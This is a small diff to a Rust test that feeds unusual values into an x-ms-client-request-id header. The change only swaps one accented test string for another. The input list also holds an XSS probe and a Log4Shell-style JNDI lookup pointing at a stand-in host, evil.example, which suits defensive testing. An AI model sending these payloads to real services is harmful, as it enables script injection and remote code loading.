@@ -27,7 +27,7 @@ async fn request_ids_that_are_none() {
         "<script>alert(1)</script>",
         "${jndi:ldap://evil.example/a}",
         "\u{1b}[31mred",
-        "caf\u{e9}",
+        "\u{e9}t\u{e9}",
         &long,
     ] {
         let header = format!("x-ms-client-request-id: {id}\r\n");
